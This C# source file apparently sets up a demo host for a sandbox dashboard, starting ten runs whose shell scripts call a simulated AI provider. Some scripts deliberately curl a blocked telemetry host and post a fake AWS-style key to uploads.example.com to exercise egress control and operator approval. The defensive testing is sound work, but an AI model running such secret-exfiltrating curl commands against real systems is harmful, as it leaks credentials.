using System.Diagnostics;
using BotBottle.Controller.Demo;

namespace BotBottle.Bench.Dashboard;

/// <summary>
/// <c>dotnet run -c Release --project bench -- dashboard live</c>: a separate host with ten runs in sandboxes that call the demo's simulated provider, each at
/// its own pace, for trying the dashboard by hand. It prints how to open it, and runs until a line is entered or its input ends.
/// </summary>
internal static class LiveHost
{
    private static readonly string[] Names = [
        "brave-otter", "calm-heron", "eager-lynx", "fast-ibis", "kind-wolf", "lone-crane", "mild-bear", "quiet-fox", "shy-tapir", "wise-raven"];

    public static async Task<int> RunAsync(string? folder)
    {
        DirectoryInfo root = folder is null ? Directory.CreateTempSubdirectory("bb-live") : Directory.CreateDirectory(folder);
        string home = Path.Combine(root.FullName, "home");
        string work = Path.Combine(root.FullName, "work");
        Directory.CreateDirectory(home, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        Directory.CreateDirectory(work);
        await using SimulatedProvider provider = await SimulatedProvider.StartAsync(
            ["api.anthropic.com", "uploads.example.com"], number => SimulatedAnswer.Of(200 + number * 37 % 900, 50 + number * 13 % 300), DateTimeOffset.UtcNow,
            CancellationToken.None);
        Write(home, provider);
        List<Process> runs = [.. Names.Select((name, number) => Start(home, Directory.CreateDirectory(Path.Combine(work, name)).FullName, name, number))];
        Console.WriteLine($"export BOT_BOTTLE_HOME={home}\n{Program()} dashboard");
        Console.ReadLine();
        await Call(home, "kill", "--all", "--yes").WaitForExitAsync();
        await Task.WhenAll(runs.Select(run => run.WaitForExitAsync()));
        await Call(home, "controller", "stop").WaitForExitAsync();
        root.Delete(recursive: true);
        return 0;
    }

    private static void Write(string home, SimulatedProvider provider)
    {
        string ca = Path.Combine(home, "provider-ca.pem");
        File.WriteAllText(ca, provider.CertificateAuthority);
        File.WriteAllText(
            Path.Combine(home, "settings.yml"),
            $$"""
            budget:
              claude: {tokens: 9M, window: daily}
            upstream:
              ca: {{ca}}
              resolve: {api.anthropic.com: "{{provider.Address}}", uploads.example.com: "{{provider.Address}}"}
            """);
        Directory.CreateDirectory(Path.Combine(home, "bottles"));
        foreach ((string bottle, string limit) in (IEnumerable<(string, string)>)[("web", "4M"), ("data", "1500k")])
        {
            File.WriteAllText(
                Path.Combine(home, "bottles", bottle + ".md"),
                $$"""
                ---
                agent_provider: claude
                budget: {claude: {{limit}}}
                egress:
                  routes: [{host: uploads.example.com}]
                ---
                For trying the dashboard.
                """);
        }
    }

    private static Process Start(string home, string work, string name, int number)
    {
        string pause = (0.4 + number * 0.3).ToString(System.Globalization.CultureInfo.InvariantCulture);
        // Every few calls: a request to a closed host, and one to an open host with a value that looks like a key, which waits for the operator.
        string script = $$"""
            i=0
            while :; do
              curl -s -o /dev/null https://api.anthropic.com/v1/messages -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' \
                -d '{"model":"claude-sonnet-4-5","max_tokens":256,"messages":[{"role":"user","content":"go on"}]}'
              i=$((i+1))
              [ $((i % {{7 + number}})) -eq 0 ] && curl -s -o /dev/null https://telemetry.example.net/v1
              [ $i -eq {{9 + number}} ] && [ {{number}} -lt 3 ] && (curl -s -o /dev/null https://uploads.example.com/notes -d "key=AKIA$(head -c 200 /dev/urandom | tr -dc A-Z2-7 | head -c 16)" &)
              sleep {{pause}}
            done
            """;
        string[] own = number % 3 == 0 ? ["--budget", $"claude={(number == 9 ? 40 : 400 + number * 60)}k"] : [];
        string[] bottle = number % 4 == 3 ? [] : ["--bottle", number % 2 == 0 ? "web" : "data"];
        return Call(home, work, ["run", "--name", name, .. own, .. bottle, "--", "sh", "-c", script]);
    }

    private static string Program()
    {
        DirectoryInfo framework = new(AppContext.BaseDirectory.TrimEnd('/'));
        return Path.Combine(framework.Parent!.Parent!.Parent!.Parent!.FullName, "Controller", "bin", framework.Parent.Name, framework.Name, "bot-bottle");
    }

    private static Process Call(string home, params string[] words) => Call(home, home, words);

    private static Process Call(string home, string folder, string[] words)
    {
        ProcessStartInfo start = new(Program(), words) { WorkingDirectory = folder, RedirectStandardInput = true };
        start.Environment["BOT_BOTTLE_HOME"] = home;
        start.Environment["ANTHROPIC_API_KEY"] = "sk-ant-a-key-that-opens-nothing";
        Process process = Process.Start(start)!;
        process.StandardInput.Close();
        return process;
    }
}
